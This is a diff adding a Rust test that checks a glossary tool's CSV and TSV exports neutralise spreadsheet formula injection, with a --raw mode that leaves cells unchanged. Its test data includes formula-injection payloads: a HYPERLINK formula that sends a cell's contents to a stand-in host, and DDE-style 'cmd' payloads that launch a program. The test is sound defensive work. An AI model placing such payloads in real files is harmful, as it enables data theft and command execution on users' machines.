@@ -1,0 +1,75 @@
+//! Output other programs run, round three: CSV and TSV cells a spreadsheet
+//! would run as formulas, links of schemes that open files or run
+//! handlers, and characters in a TBX export or an imported article that
+//! XML forbids or a terminal obeys. Everything gloss writes is sanitised as
+//! everything it shows.
+
+use crate::common::*;
+use crate::folders::write;
+use std::fs;
+use std::path::Path;
+
+fn yaml_article(title: &str, description: &str, body: &str) -> Vec<u8> {
+    let quote = |text: &str| serde_json::to_string(text).unwrap();
+    format!(
+        "---\ntitle: {}\ndescription: {}\n---\n\n{body}\n",
+        quote(title),
+        quote(description)
+    )
+    .into_bytes()
+}
+
+fn run_in(dir: &Path, args: &[&str]) -> String {
+    let (code, out, err) = run_on_folder(dir, &[], args);
+    assert_eq!(code, Some(0), "{args:?}: {err}");
+    out
+}
+
+const FORMULAS: [&str; 6] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "@A1",
+];
+
+#[test]
+fn csv_and_tsv_cells_that_are_formulas_are_neutralised_unless_raw() {
+    let tmp = tempfile::tempdir().unwrap();
+    for (i, formula) in FORMULAS.iter().enumerate() {
+        let slug = format!("term-{i}");
+        write(tmp.path(), &format!("{slug}/en.md"), &yaml_article(formula, formula, "Body."));
+    }
+    let csv = run_in(tmp.path(), &["--export", "csv", "--lang", "en"]);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), FORMULAS.len());
+    for row in &rows {
+        let i: usize = row[0].strip_prefix("term-").unwrap().parse().unwrap();
+        assert_eq!(&row[2], format!("'{}", FORMULAS[i]), "{csv}");
+        assert_eq!(&row[3], format!("'{}", FORMULAS[i]), "{csv}");
+    }
+    let tsv = run_in(tmp.path(), &["--export", "tsv", "--lang", "en"]);
+    for line in tsv.lines() {
+        for cell in line.split('\t') {
+            assert!(cell.starts_with('\''), "{cell:?} in {tsv}");
+        }
+    }
+    // --raw, for a round trip through gloss: as written.
+    let raw = run_in(tmp.path(), &["--export", "csv", "--lang", "en", "--raw"]);
+    let mut reader = csv::Reader::from_reader(raw.as_bytes());
+    for row in reader.records().map(Result::unwrap) {
+        let i: usize = row[0].strip_prefix("term-").unwrap().parse().unwrap();
+        assert_eq!(&row[2], FORMULAS[i]);
+    }
+    let raw_tsv = run_in(tmp.path(), &["--export", "tsv", "--lang", "en", "--raw"]);
+    assert!(raw_tsv.lines().any(|l| l.starts_with("=1+1\t")), "{raw_tsv}");
+    // An ordinary title is not touched.
+    write(tmp.path(), "plain/en.md", &yaml_article("Plain – not 'quoted'", "x", ""));
+    let csv = run_in(tmp.path(), &["--export", "csv", "--lang", "en"]);
+    assert!(csv.contains("plain,en,Plain – not 'quoted',x\n"), "{csv}");
+    // --raw belongs to --export.
+    let (code, _, err) = run_on_folder(tmp.path(), &[], &["plain", "--raw"]);
+    assert_eq!(code, Some(2), "{err}");
+}
